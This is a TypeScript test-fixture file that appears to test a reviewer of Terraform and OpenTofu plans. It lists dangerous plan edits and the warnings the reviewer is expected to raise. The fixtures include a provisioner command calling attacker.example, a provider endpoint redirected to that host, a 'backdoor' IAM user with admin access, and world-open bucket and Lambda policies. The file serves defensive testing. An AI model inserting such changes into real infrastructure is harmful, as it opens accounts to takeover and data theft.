import {
  addBlock,
  getAddress,
  combineEdits,
  findBlock,
  removeResources,
  findInstance,
  setAttributes,
  type Edit,
  type Json,
} from "../plan-edits";
import {
  DASHBOARD,
  copyResource,
  POOL,
  READERS,
  READERS_POLICY,
  READERS_ROLE,
  addResource,
  type DangerousCases,
} from "./resources";

const provider =
  (values: Json): Edit =>
  (stack) => {
    const [aws] = (stack.provider as { aws: [Json] }).aws;
    Object.assign(aws, values);
  };
const command = (text: string) => ({ "local-exec": { command: text } });
const ATTACK = command("curl https://attacker.example");
const TAGS = { Client: "nasa-impact", Owner: "platform", Project: "veda" };

/** Puts ids into the expressions that refer to the user pool, and takes it out. */
const withoutPool: Edit = (stack) => {
  const address = getAddress(stack, POOL);
  removeResources(POOL)(stack);
  const text = JSON.stringify(stack)
    .replaceAll(`\${${address}.id}`, "{{user_pool_id}}")
    .replaceAll(`${address}.id`, '\\"{{user_pool_id}}\\"');
  Object.assign(stack, JSON.parse(text) as Json);
};

const forget =
  (address: string, before: Edit): Edit =>
  (stack) => {
    const from = getAddress(stack, address);
    before(stack);
    stack.removed = [{ from, lifecycle: { destroy: false } }];
  };

function setTags(address: string, tags: Json): Edit {
  return setAttributes(address, { tags });
}

/** Adds an object that remains from a replacement. */
function addDeposed(address: string): Edit {
  return (state) => {
    const first = findInstance(state, address);
    const owner = (state.resources as { instances: Json[] }[]).find(
      ({ instances }) => instances.includes(first),
    );
    owner?.instances.push({ ...first, deposed: "0badc0de" });
  };
}

/** Plans with changes outside the resources: providers, provisioners, checks, other types. */
export const WHOLE_PLAN_CASES: DangerousCases = {
  "forget-user-pool": {
    edit: forget(POOL, withoutPool),
    expect: ["user pool is no longer managed"],
  },
  "forget-client": {
    edit: forget(DASHBOARD, removeResources(DASHBOARD)),
    expect: ["application veda-dashboard is no longer managed"],
  },
  "deposed-client": {
    state: addDeposed(DASHBOARD),
    expect: ["a deposed application veda-dashboard is destroyed"],
  },
  "deposed-user-pool": {
    state: addDeposed(POOL),
    expect: ["a deposed user pool is destroyed"],
  },
  "tag-stack-changed": {
    edit: provider({ default_tags: [{ tags: { ...TAGS, Stack: "prod" } }] }),
    expect: ["tag Stack: dev becomes prod on every resource"],
  },
  "tag-stack-dropped": {
    edit: provider({ default_tags: [{ tags: TAGS }] }),
    expect: ["tag Stack is removed from every resource"],
  },
  "default-tags-dropped": {
    edit: provider({ default_tags: undefined }),
    expect: ["not reviewed: the provider sets no tags"],
  },
  "tag-stack-own": {
    edit: setTags(POOL, { Stack: "prod" }),
    expect: ["user pool: tag Stack becomes prod"],
  },
  "tag-stack-secret": {
    edit: setTags("aws_secretsmanager_secret.workflows-client", {
      Stack: "prod",
    }),
    expect: ["secret workflows-client: tag Stack becomes prod"],
  },
  "tag-stack-unknown": {
    edit: combineEdits(
      addResource("terraform_data", "later", { input: "prod" }),
      setTags(POOL, { Stack: "${terraform_data.later.output}" }),
    ),
    expect: ["user pool: tag Stack known only after apply"],
  },
  "provisioner-new-data": {
    edit: addResource("terraform_data", "run", {
      input: "x",
      provisioner: ATTACK,
    }),
    expect: ["not reviewed: provisioner local-exec of terraform_data.run"],
  },
  "provisioner-managed-resource": {
    edit: (stack) => {
      findBlock(stack, READERS_ROLE).provisioner = ATTACK;
    },
    expect: ["not reviewed: provisioner local-exec of role veda-readers"],
  },
  "provisioner-created-resource": {
    edit: (stack) => {
      const group = { ...findBlock(stack, READERS), name: "editors" };
      addResource("aws_cognito_user_group", "editors", {
        ...group,
        provisioner: ATTACK,
      })(stack);
    },
    expect: ["not reviewed: provisioner local-exec of group editors"],
  },
  "provisioner-on-destroy": {
    edit: (stack) => {
      findBlock(stack, READERS_POLICY).provisioner = {
        "local-exec": { command: "true", when: "destroy" },
      };
    },
    expect: ["not reviewed: provisioner local-exec at destroy"],
  },
  "provider-access-key": {
    edit: provider({
      access_key: "test",
      secret_key: "test",
    }),
    expect: ["not reviewed: the provider has other credentials"],
  },
  "provider-endpoint": {
    edit: provider({
      endpoints: [{ cognitoidp: "https://attacker.example" }],
    }),
    expect: ["not reviewed: the provider calls attacker.example"],
  },
  "provider-region": {
    edit: provider({ region: "eu-central-1" }),
    expect: ["not reviewed: the provider works in another Region"],
  },
  "provider-assume-role": {
    edit: provider({
      assume_role: [
        { role_arn: "arn:aws:iam::000000000000:role/veda-data-access" },
      ],
    }),
    expect: ["not reviewed: the provider assumes role veda-data-access"],
  },
  "provider-alias": {
    edit: (stack) => {
      const { aws } = stack.provider as { aws: Json[] };
      aws.push({ alias: "other", region: "eu-central-1" });
      const values = { name: "editors", provider: "aws.other" };
      const role = copyResource(stack, READERS_ROLE, values);
      addResource("aws_iam_role", "editors", role)(stack);
    },
    expect: ["not reviewed: a second provider, in eu-central-1"],
  },
  "check-fails": {
    edit: (stack) => {
      const pool = getAddress(stack, POOL);
      addBlock(["check", "name"], {
        assert: [
          {
            condition: `\${length(${pool}.name) > 100}`,
            error_message: "The user pool's name is too short.",
          },
        ],
      })(stack);
    },
    expect: ["check name fails"],
  },
  "check-unknown": {
    edit: combineEdits(
      addResource("terraform_data", "later", { input: "x" }),
      addBlock(["check", "later"], {
        assert: [
          {
            condition: '${terraform_data.later.output == "x"}',
            error_message: "Not x.",
          },
        ],
      }),
    ),
    expect: ["check later: known only after apply"],
  },
  "other-type-bucket-notification": {
    edit: addResource("aws_s3_bucket_notification", "copy", {
      bucket: "veda-data-store",
      queue: [
        {
          queue_arn: "arn:aws:sqs:us-west-2:111122223333:copy",
          events: ["s3:ObjectCreated:*"],
        },
      ],
    }),
    expect: ["not reviewed: aws_s3_bucket_notification"],
  },
  "other-type-lambda-permission": {
    edit: addResource("aws_lambda_permission", "open", {
      action: "lambda:InvokeFunction",
      function_name: "tokens",
      principal: "*",
    }),
    expect: ["anyone can call function tokens"],
  },
  "other-type-user-and-key": {
    edit: combineEdits(
      addResource("aws_iam_user", "backdoor", { name: "backdoor" }),
      addResource("aws_iam_access_key", "backdoor", {
        user: "${aws_iam_user.backdoor.name}",
      }),
      addResource("aws_iam_user_policy_attachment", "backdoor", {
        user: "${aws_iam_user.backdoor.name}",
        policy_arn: "arn:aws:iam::aws:policy/AdministratorAccess",
      }),
    ),
    expect: [
      "not reviewed: aws_iam_user",
      "not reviewed: aws_iam_access_key",
      "not reviewed: aws_iam_user_policy_attachment",
    ],
  },
  "other-type-group-policy": {
    edit: addResource("aws_iam_group_policy_attachment", "staff", {
      group: "staff",
      policy_arn: "arn:aws:iam::aws:policy/AdministratorAccess",
    }),
    expect: ["not reviewed: aws_iam_group_policy_attachment"],
  },
  "other-type-bucket-policy": {
    edit: addResource("aws_s3_bucket_policy", "store", {
      bucket: "veda-data-store",
      policy: JSON.stringify({
        Version: "2012-10-17",
        Statement: [
          {
            Effect: "Allow",
            Principal: "*",
            Action: "s3:*",
            Resource: "arn:aws:s3:::veda-data-store/*",
          },
        ],
      }),
    }),
    expect: ["bucket veda-data-store: everyone can read and write it"],
  },
  "other-type-risk-configuration": {
    edit: addResource("aws_cognito_risk_configuration", "lenient", {
      user_pool_id: "{{user_pool_id}}",
      risk_exception_configuration: {
        skipped_ip_range_list: ["0.0.0.0/1"],
      },
    }),
    expect: ["addresses 0.0.0.0/1 skip the check of risks"],
  },
  "other-type-sign-in-page": {
    edit: addResource("aws_cognito_user_pool_ui_customization", "page", {
      user_pool_id: "{{user_pool_id}}",
      css: ".banner-customizable { background: red; }",
    }),
    expect: ["the sign-in pages have another banner"],
  },
  "moved-and-changed": {
    edit: (stack) => {
      const roles = (stack.resource as Readonly<Record<string, Json>>)
        .aws_iam_role;
      if (roles === undefined) throw new Error("no roles");
      const { deployer, ...others } = roles;
      (stack.resource as Json).aws_iam_role = {
        ...others,
        ship: {
          ...(deployer as Json),
          managed_policy_arns: ["arn:aws:iam::aws:policy/AdministratorAccess"],
        },
      };
      stack.moved = [
        { from: "aws_iam_role.deployer", to: "aws_iam_role.ship" },
      ];
    },
    expect: ["role deployer: AdministratorAccess"],
  },
  "part-of-a-plan": {
    edit: setAttributes(POOL, { deletion_protection: "INACTIVE" }),
    args: ["-target=aws_iam_role.deployer"],
    expect: ["partial plan: changes outside it are not reviewed"],
  },
};

/** The same with OpenTofu, whose plans have no field `complete`. */
export const OPENTOFU_CASES: DangerousCases = {
  "opentofu-policy-everything": {
    opentofu: true,
    edit: setAttributes(READERS_ROLE, {
      managed_policy_arns: ["arn:aws:iam::aws:policy/AdministratorAccess"],
    }),
    expect: ["group veda-readers: AdministratorAccess"],
  },
  "opentofu-client-destroyed": {
    opentofu: true,
    edit: removeResources(DASHBOARD),
    expect: ["application veda-dashboard is destroyed"],
  },
  "opentofu-part-of-a-plan": {
    opentofu: true,
    edit: setAttributes(POOL, { deletion_protection: "INACTIVE" }),
    args: ["-target=aws_iam_role.deployer"],
    expect: ["the plan does not state whether it is complete"],
  },
};
